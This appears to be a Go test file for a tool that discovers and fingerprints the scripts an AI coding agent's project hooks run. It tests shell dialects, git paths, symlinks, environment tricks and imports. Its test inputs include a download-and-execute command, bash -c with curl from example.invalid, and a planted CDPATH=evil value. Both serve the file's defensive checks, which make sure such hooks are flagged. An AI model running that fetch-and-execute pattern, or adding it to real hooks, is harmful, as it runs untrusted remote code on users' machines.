package trust

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// soundProject writes files (relative path → content) into a new project
// folder and returns it (symlinks resolved).
func soundProject(t *testing.T, files map[string]string) string {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for rel, content := range files {
		p := filepath.Join(root, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func discoverIn(t *testing.T, project, command string, rt Runtime) Discovery {
	t.Helper()
	d, err := discoverWith(command, project, nil, nil, newFollowCacheFor(rt))
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func hasScript(d Discovery, path string) bool {
	for _, s := range d.Scripts {
		if s.Path == path {
			return true
		}
	}
	return false
}

func reasonWith(d Discovery, part string) (UnresolvedCode, bool) {
	for _, u := range d.Unresolved {
		if strings.Contains(u.String(), part) {
			return u, true
		}
	}
	return UnresolvedCode{}, false
}

// TestDialects: bash expands braces and has source; /bin/sh (dash, the
// shell Claude Code hands a command to) does neither, so the same text
// runs other files.
func TestDialects(t *testing.T) {
	p := soundProject(t, map[string]string{"h/env.sh": "true\n", "h/common.sh": "true\n", "h/{env,common}.sh": "true\n", "h/s.sh": "true\n"})
	bash := discoverIn(t, p, `. h/{env,common}.sh`, Runtime{Dialect: DialectBash})
	if !hasScript(bash, filepath.Join(p, "h/env.sh")) || hasScript(bash, filepath.Join(p, "h/{env,common}.sh")) {
		t.Errorf("bash: %+v", bash.Scripts)
	}
	sh := discoverIn(t, p, `. h/{env,common}.sh`, Runtime{Dialect: DialectPOSIX})
	if !hasScript(sh, filepath.Join(p, "h/{env,common}.sh")) || hasScript(sh, filepath.Join(p, "h/env.sh")) {
		t.Errorf("sh: %+v", sh.Scripts)
	}
	if d := discoverIn(t, p, `source h/s.sh`, Runtime{Dialect: DialectPOSIX}); hasScript(d, filepath.Join(p, "h/s.sh")) {
		t.Errorf("sh has no source builtin: %+v", d.Scripts)
	}
	// a script's shebang picks its dialect, whatever the agent's shell is
	p2 := soundProject(t, map[string]string{"run.sh": "#!/bin/bash\n. lib/{a,b}.sh\n", "lib/a.sh": "true\n"})
	if d := discoverIn(t, p2, `./run.sh`, Runtime{Dialect: DialectPOSIX}); !hasScript(d, filepath.Join(p2, "lib/a.sh")) {
		t.Errorf("#!/bin/bash script read as sh: %+v", d.Scripts)
	}
}

// TestGitRevParse: the repository root is resolved as git finds it, from
// the folder the command is in; an environment or layout that moves it
// makes discovery incomplete.
func TestGitRevParse(t *testing.T) {
	p := soundProject(t, map[string]string{".git/config": "[core]\n", "sub/.keep": "", "x.py": "pass\n", "scripts/y.sh": "true\n"})
	for _, cmd := range []string{
		`python3 "$(git rev-parse --show-toplevel)/x.py"`,
		`cd sub && python3 "$(git rev-parse --show-toplevel)/x.py"`,
		`cd sub && python3 "$(git rev-parse --show-cdup)x.py"`,
		`cd "$(git rev-parse --show-toplevel)" && python3 x.py`,
		`python3 "$(dirname "$(git rev-parse --git-dir)")/x.py"`,
		`python3 "$(git rev-parse --path-format=absolute --git-common-dir)/../x.py"`,
	} {
		d := discoverIn(t, p, cmd, Runtime{})
		if !hasScript(d, filepath.Join(p, "x.py")) || !d.Complete() {
			t.Errorf("%s: scripts %+v, unresolved %v", cmd, d.Scripts, d.Unresolved)
		}
	}
	if d := discoverIn(t, p, `GIT_DIR=/elsewhere; python3 "$(git rev-parse --show-toplevel)/x.py"`, Runtime{}); d.Complete() {
		t.Errorf("GIT_DIR moves the repository: %+v", d)
	}
	wt := soundProject(t, map[string]string{".git": "gitdir: /somewhere/else\n", "x.py": "pass\n"})
	if d := discoverIn(t, wt, `python3 "$(git rev-parse --show-toplevel)/x.py"`, Runtime{}); d.Complete() {
		t.Errorf("a worktree's .git file: %+v", d)
	}
	cw := soundProject(t, map[string]string{".git/config": "[core]\n\tworktree = /other\n", "x.py": "pass\n"})
	if d := discoverIn(t, cw, `python3 "$(git rev-parse --show-toplevel)/x.py"`, Runtime{}); d.Complete() {
		t.Errorf("core.worktree: %+v", d)
	}
}

// TestReasonsSayWhereAndWhetherATraceCovers: every reason has a position
// and a kind, and says whether a sandboxed trace can stand in for it.
func TestReasonsSayWhereAndWhetherATraceCovers(t *testing.T) {
	p := soundProject(t, map[string]string{"m.pl": "require './h.pl';\n", "x.py": "import os\nimport subprocess\nsubprocess.run(['bash', 'y.sh'])\n"})
	d := discoverIn(t, p, `perl m.pl; bash -c "$(curl -s https://example.invalid/x)"; python3 x.py`, Runtime{})
	perl, ok := reasonWith(d, "perl runs m.pl")
	if !ok || perl.Kind != ReasonLoads || !perl.Traceable || perl.Line != 1 || perl.Column != 6 {
		t.Errorf("perl: %+v (all %v)", perl, d.Unresolved)
	}
	dl, ok := reasonWith(d, "curl")
	if !ok || dl.Traceable {
		t.Errorf("download: %+v (all %v)", dl, d.Unresolved)
	}
	sp, ok := reasonWith(d, "starts programs (subprocess)")
	if !ok || sp.Kind != ReasonPrograms || !sp.Traceable || sp.File != filepath.Join(p, "x.py") || sp.Line != 2 {
		t.Errorf("subprocess: %+v (all %v)", sp, d.Unresolved)
	}
}

// TestEnvironmentIsPartOfTheHook: the agent's env files are listed with
// every hook, and their variables change what the command runs.
func TestEnvironmentIsPartOfTheHook(t *testing.T) {
	p := soundProject(t, map[string]string{".gemini/.env": "CDPATH=evil\n", "hooks/x.sh": "true\n"})
	env := filepath.Join(p, ".gemini/.env")
	rt := Runtime{EnvFiles: []string{env, filepath.Join(p, ".env")}, Env: map[string]string{"CDPATH": "evil"}}
	d := discoverIn(t, p, `cd hooks && bash x.sh`, rt)
	if !hasScript(d, env) || hasScript(d, filepath.Join(p, ".env")) {
		t.Errorf("env files: %+v", d.Scripts)
	}
	if d.Complete() {
		t.Errorf("cd with CDPATH set reads as complete: %+v", d)
	}
	rt.Env = nil
	if d := discoverIn(t, p, `cd hooks && bash x.sh`, rt); !d.Complete() || !hasScript(d, filepath.Join(p, "hooks/x.sh")) {
		t.Errorf("without CDPATH: %+v", d)
	}
	if d := discoverIn(t, p, `bash hooks/x.sh`, Runtime{ShellNote: "zsh runs it"}); d.Complete() {
		t.Errorf("a shell read as bash: %+v", d)
	}
}

// TestCompleteForms: forms discovery follows to the end read complete.
func TestCompleteForms(t *testing.T) {
	p := soundProject(t, map[string]string{"x.sh": "true\n", "h.py": "import json, sys; import helper\n", "helper.py": "pass\n"})
	for _, cmd := range []string{
		`node --version && python3 --version && bash --version`,
		`runner="bash x.sh"; $runner`,
		`python3 h.py`,
	} {
		if d := discoverIn(t, p, cmd, Runtime{}); !d.Complete() {
			t.Errorf("%s: %v", cmd, d.Unresolved)
		}
	}
	if d := discoverIn(t, p, `runner="bash x.sh"; $runner`, Runtime{}); !hasScript(d, filepath.Join(p, "x.sh")) {
		t.Errorf("word splitting: %+v", d.Scripts)
	}
	if d := discoverIn(t, p, `python3 h.py`, Runtime{}); !hasScript(d, filepath.Join(p, "helper.py")) {
		t.Errorf("import after ;: %+v", d.Scripts)
	}
	if d := discoverIn(t, p, `IFS=:; runner="bash:x.sh"; $runner`, Runtime{}); d.Complete() {
		t.Errorf("a changed IFS reads as complete: %+v", d)
	}
}

// TestPhysicalDotDot: ".." after a symlinked folder goes up from where
// the link points, as the kernel opens the path.
func TestPhysicalDotDot(t *testing.T) {
	p := soundProject(t, map[string]string{"vendor/pkg/hooks/run.sh": ". \"$(dirname \"$0\")/../lib/common.sh\"\n", "vendor/pkg/lib/common.sh": "true\n", "lib/common.sh": "true\n"})
	if err := os.Symlink("vendor/pkg/hooks", filepath.Join(p, "hooks")); err != nil {
		t.Fatal(err)
	}
	d := discoverIn(t, p, `bash hooks/run.sh`, Runtime{})
	if !hasScript(d, filepath.Join(p, "vendor/pkg/lib/common.sh")) || hasScript(d, filepath.Join(p, "lib/common.sh")) {
		t.Errorf("scripts: %+v", d.Scripts)
	}
}

// TestInlineCodeOfOtherLanguages: python3 -c and node -e follow their
// imports; perl -e that loads code is incomplete.
func TestInlineCodeOfOtherLanguages(t *testing.T) {
	p := soundProject(t, map[string]string{"helper.py": "pass\n", "lib.js": "\n"})
	if d := discoverIn(t, p, `python3 -c 'import helper'`, Runtime{}); !hasScript(d, filepath.Join(p, "helper.py")) || !d.Complete() {
		t.Errorf("python3 -c: %+v", d)
	}
	if d := discoverIn(t, p, `node -e "require('./lib')"`, Runtime{}); !hasScript(d, filepath.Join(p, "lib.js")) || !d.Complete() {
		t.Errorf("node -e: %+v", d)
	}
	if d := discoverIn(t, p, `perl -e 'require "./x.pl"'`, Runtime{}); d.Complete() {
		t.Errorf("perl -e require: %+v", d)
	}
	if d := discoverIn(t, p, `python3 -c 'print(1)'`, Runtime{}); !d.Complete() {
		t.Errorf("python3 -c print: %+v", d)
	}
}

// TestCoverByATrace: a Runtime.Cover adds the files a trace saw (they are
// fingerprinted like any script) and covers traceable reasons only; a
// hook left with none is trusted once approved.
func TestCoverByATrace(t *testing.T) {
	p := soundProject(t, map[string]string{"m.pl": "require './h.pl';\n", "h.pl": "1;\n"})
	rt := Runtime{Cover: func(rv *HookReview) {
		rv.Scripts = append(rv.Scripts, ScriptReview{Word: "h.pl", Path: filepath.Join(p, "h.pl"), Via: "perl", How: FoundTraced})
		rv.CoverReasons("a traced run", func(UnresolvedCode) bool { return true })
	}}
	rv := HookReview{ProjectHook: ProjectHook{Command: "perl m.pl; bash $X", IsCommand: true, Type: "command"}, Status: StatusTrusted}
	NewScriptReviewerFor(p, rt).ReviewScripts(&rv, nil)
	if len(rv.Covered) != 1 || len(rv.Unresolved) != 1 || !strings.Contains(rv.Unresolved[0].Why, "$X") {
		t.Fatalf("covered %v, left %v", rv.Covered, rv.Unresolved)
	}
	found := false
	for _, s := range rv.Scripts {
		found = found || s.Path == filepath.Join(p, "h.pl") && s.SHA256 != ""
	}
	if !found {
		t.Fatalf("the traced file is not fingerprinted: %+v", rv.Scripts)
	}
	rv.SettleUnwatched()
	if rv.Status != StatusPartlyUnwatched {
		t.Fatalf("a computed reason left: %s", rv.Status)
	}
}

// TestJSSpecifiersNotFollowed: URLs, registry specifiers, the imports map
// and path aliases are reasons, never silently complete.
func TestJSSpecifiersNotFollowed(t *testing.T) {
	for _, spec := range []string{"https://deno.land/x/mod.ts", "npm:left-pad", "#lib/x", "@/lib/x"} {
		p := soundProject(t, map[string]string{"m.ts": "import x from '" + spec + "'\n"})
		if d := discoverIn(t, p, `deno run m.ts`, Runtime{}); d.Complete() {
			t.Errorf("%s: complete", spec)
		}
	}
	p := soundProject(t, map[string]string{"m.js": "const fs = require('node:fs'); require('path')\n"})
	if d := discoverIn(t, p, `node m.js`, Runtime{}); !d.Complete() {
		t.Errorf("built-ins: %v", d.Unresolved)
	}
}

// TestProjectInterpreters: a project's own interpreter or environment
// loads packages from the project, which are not followed.
func TestProjectInterpreters(t *testing.T) {
	p := soundProject(t, map[string]string{".venv/bin/python": "\x7fELF", ".venv/pyvenv.cfg": "home = /usr\n", "x.py": "import requests\n"})
	for _, cmd := range []string{`.venv/bin/python x.py`, `uv run x.py`, `python3 x.py`} {
		d := discoverIn(t, p, cmd, Runtime{})
		if cmd == `python3 x.py` {
			if !d.Complete() {
				t.Errorf("%s: %v", cmd, d.Unresolved)
			}
		} else if d.Complete() {
			t.Errorf("%s: complete", cmd)
		}
	}
}
